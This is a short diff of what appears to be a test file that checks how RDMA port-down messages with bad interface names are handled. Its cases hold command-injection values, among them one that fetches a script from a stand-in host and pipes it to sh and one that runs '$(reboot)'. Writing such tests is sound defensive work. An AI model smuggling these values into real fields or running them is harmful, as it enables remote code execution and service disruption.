@@ -34,7 +34,7 @@ it.each([
 })
 
 it.each([
-  ['RDMA_PORT_DOWN', '(eth0;curl${IFS}x.example/a|sh; is down)'],
+  ['RDMA_PORT_DOWN', '(eth0;curl$IFS.x.example/a|sh; is down)'],
   ['RDMA_PORT_DOWN', '($(reboot) has no carrier)'],
   ['RDMA_PORT_DOWN', '(--help is down)'],
   ['RDMA_PORT_DOWN', '(a-name-of-more-than-15 is down)'],
